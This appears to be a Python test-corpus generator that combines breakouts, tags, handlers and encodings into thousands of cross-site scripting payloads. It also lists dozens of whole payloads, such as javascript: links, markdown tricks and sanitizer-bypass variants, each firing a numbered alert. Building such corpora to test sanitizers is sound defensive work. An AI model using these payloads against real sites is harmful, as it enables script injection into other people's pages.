"""Seven thousand ways to have a script run by a page that takes words for HTML.

Made here by combination: a way out of where the words stand, a tag, a handler and a spelling.
Each says `alert(N)` with a number of its own, so that whoever ran can be told.
"""

from collections.abc import Iterator
from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`>",
    "](x)",
    '"autofocus ',
)
TAGS = (
    "<img src=x {on}>",
    "<svg {on}>",
    "<svg><g {on}></g></svg>",
    "<body {on}>",
    "<video src=x {on}>",
    "<audio src=x {on}>",
    "<video><source {on}></video>",
    "<iframe src=x {on}></iframe>",
    "<object data=x {on}></object>",
    "<embed src=x {on}>",
    "<details open {on}><summary>x</summary></details>",
    "<input autofocus {on}>",
    "<select autofocus {on}></select>",
    "<textarea autofocus {on}></textarea>",
    "<button autofocus {on}>x</button>",
    "<marquee {on}>x</marquee>",
    "<link rel=stylesheet href=x {on}>",
    "<a href=# autofocus {on}>x</a>",
    "<div tabindex=0 autofocus {on}>x</div>",
    "<math><mi {on}>x</mi></math>",
    "<p contenteditable autofocus {on}>x</p>",
    "<style {on}>p{{}}</style>",
    "<script src=x {on}></script>",
)
HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onclick",
    "onanimationstart",
    "onbegin",
    "onstart",
    "onloadstart",
    "onscrollend",
)
SPELLINGS = (
    "{handler}=alert({n})",
    "{upper}='alert({n})'",
    '{handler} = "&#97;lert({n})"',
)
WHOLE = (
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT>",
    "<script>window['alert']({n})//",
    "<script/x>alert({n})</script>",
    "<<script>alert({n})//<</script>",
    "<svg><script>alert({n})</script></svg>",
    "<svg/onload=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<img src=x\nonerror\n=\nalert({n})>",
    "<img src=x onerror=alert({n})//",
    '<iframe srcdoc="<script>alert({n})</script>"></iframe>',
    "<iframe src=javascript:alert({n})></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<form action=javascript:alert({n})><button autofocus>x</button></form>",
    "<button formaction=javascript:alert({n}) form=x>x</button>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java\tscript:alert({n})'>x</a>",
    "<a href=&#106;avascript:alert({n})>x</a>",
    "<a href=data:text/html,<script>alert({n})</script>>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=javascript:alert({n})//>",
    "<math><a xlink:href=javascript:alert({n})>x</a></math>",
    "<svg><a xlink:href=javascript:alert({n})><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert({n})></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert({n})>",
    "<template><img src=x onerror=alert({n})></template>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<![CDATA[<img src=x onerror=alert({n})>]]>",
    "[x](javascript:alert({n}))",
    "[x](JaVaScRiPt:alert({n}))",
    "[x](javascript&colon;alert({n}))",
    "[x](java\tscript:alert({n}))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+ 'alert({n})')",
    '![x](x"onerror="alert({n}))',
    "![x'onerror='alert({n})](x)",
    "[x][r{n}]\n\n[r{n}]: javascript:alert({n})",
    "<javascript:alert({n})>",
    "<https://a'onmouseover='alert({n})>",
    "https://a.example/'onmouseover='alert({n})",
    '@somebody"onmouseover="alert({n})',
    '```"><script>alert({n})</script>\nx\n```',
    "`<img src=x onerror=alert({n})>`",
    "{{{{alert({n})}}}}",
    "${{alert({n})}}",
    "\u2028<img src=x onerror=alert({n})>",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
)


def hostile_scripts() -> list[str]:
    """Return them all; the one at place N says alert(N)."""
    return [script.replace("{n}", str(number)) for number, script in enumerate(_scripts())]


def _scripts() -> Iterator[str]:
    for way_out, script in product(WAYS_OUT, WHOLE):
        yield way_out + script.replace("{{", "{").replace("}}", "}")
    for way_out, tag, handler, spelling in product(WAYS_OUT, TAGS, HANDLERS, SPELLINGS):
        if (len(way_out) + len(tag) + len(handler) + len(spelling)) % 4 == 0 and way_out:
            continue
        on = spelling.replace("{handler}", handler).replace("{upper}", handler.upper())
        yield way_out + tag.replace("{on}", on).replace("{{", "{").replace("}}", "}")
